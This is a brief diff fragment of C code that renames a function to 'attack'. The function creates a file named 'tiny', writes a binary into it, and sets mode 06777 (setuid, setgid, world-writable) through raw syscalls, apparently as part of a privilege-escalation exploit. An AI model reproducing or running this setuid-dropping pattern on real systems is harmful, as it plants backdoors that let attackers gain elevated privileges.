@@ -6,7 +6,7 @@
  */
 #include "tiny.h"
 
-static int play(void) {
+static int attack(void) {
     long file = CALL(__NR_openat, AT_FDCWD, "tiny", O_WRONLY | O_CREAT, 0777);
     write_tiny(file);
     CALL(__NR_fchmod, file, 06777);
